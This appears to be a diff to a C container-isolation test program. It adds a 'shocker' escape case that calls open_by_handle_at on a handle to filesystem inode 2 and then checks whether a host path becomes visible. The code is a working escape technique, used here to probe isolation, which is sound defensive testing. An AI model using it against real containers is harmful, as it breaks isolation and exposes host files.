@@ -6,6 +6,7 @@
  */
 #define _GNU_SOURCE
 #include <errno.h>
+#include <fcntl.h>
 #include <sched.h>
 #include <stdio.h>
 #include <string.h>
@@ -60,7 +61,21 @@ int main(int argc, char **argv)
 		r = chroot(".");
 	report("chroot", r);
 
+	/* (d) "shocker": a handle to inode 2, the root of an ext2/3/4
+	 * filesystem (type FILEID_INO32_GEN: inode, generation), opened
+	 * relative to any fd on the same filesystem; needs
+	 * CAP_DAC_READ_SEARCH. The container's root is a directory of the
+	 * host's filesystem. */
+	struct { struct file_handle fh; unsigned char b[8]; } h = { .fh = { .handle_bytes = 8, .handle_type = 1 } };
+	unsigned int ino = 2, gen = 0;
+	memcpy(h.fh.f_handle, &ino, 4);
+	memcpy(h.fh.f_handle + 4, &gen, 4);
+	int mfd = open("/", O_RDONLY | O_DIRECTORY);
+	int hfd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
+	report("handle", hfd < 0 ? -1 : 0);
 	struct stat st;
+	printf("host by handle: %s\n",
+	       hfd >= 0 && fstatat(hfd, argv[1] + 1, &st, 0) == 0 ? "VISIBLE" : "invisible");
 	printf("host: %s\n", stat(argv[1], &st) == 0 ? "VISIBLE" : "invisible");
 	return 0;
 }
